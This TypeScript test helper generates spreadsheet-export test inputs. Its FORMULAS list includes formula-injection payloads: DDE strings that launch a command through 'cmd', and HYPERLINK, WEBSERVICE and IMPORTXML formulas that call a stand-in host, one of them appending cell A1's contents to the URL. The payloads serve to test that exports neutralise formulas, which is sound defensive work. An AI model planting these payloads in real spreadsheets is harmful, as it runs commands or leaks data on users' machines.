// Texts that a spreadsheet may take for formulas, and what a sheet shows of its cells.

import fc from 'fast-check';

import type { Cell, Grid } from '../../src/platform/sheets/grid.js';

/** What a spreadsheet may take for a formula, in one place; the exports are tried with each. */
export const FORMULAS = [
  '=1+1', '=cmd|\' /C calc\'!A0', '=HYPERLINK("http://x.invalid?"&A1)', '=WEBSERVICE("http://x.invalid")', '=IMPORTXML("http://x.invalid","//a")',
  '+1+1', '+cmd|\' /C calc\'!A0', '-1+1', '-2+3+cmd|\' /C calc\'!A0', '@SUM(1+1)', '@A1', '\t=1+1', '\r=1+1', '\n=1+1', '＝1+1', '＋1', '－1', '＠A1',
  'x;=1+1', 'x\n=1+1', 'x\r\n=1+1', '";=1+1;"', "'=1+1", "''=1+1", '"=1+1"', ' =1+1', '=', '+', '-', '@', '=1;=2', '{=1+1}', '%0A=1+1',
] as const; // prettier-ignore

const texts = fc.oneof(
  fc.constantFrom(...FORMULAS),
  fc.string({ unit: 'grapheme', maxLength: 40 }),
  fc.constantFrom(
    'a_x0041_b',
    '_x005F_',
    '__x000D__',
    'é & <b> "\'',
    'ligne\nsuite',
    'ligne\r\nsuite',
    '2024',
    '1,5',
    'vrai',
    '#REF!',
  ),
);
// What a field of ours may hold.
export const storedTexts = texts
  .map((text) => text.trim())
  .filter((text) => text !== '' && !/[\u0000-\u0008\u000b\u000c\u000e-\u001f\u007f]|\p{Surrogate}/u.test(text));
export const shownCell = (cell: Cell | undefined): unknown =>
  cell?.kind === 'text' ? cell.text : cell?.kind === 'number' ? cell.value : cell?.kind;
export const shownValues = ({ rows }: Grid): unknown[][] =>
  rows.map(({ cells }) => [...cells].map(([, cell]) => shownCell(cell)));
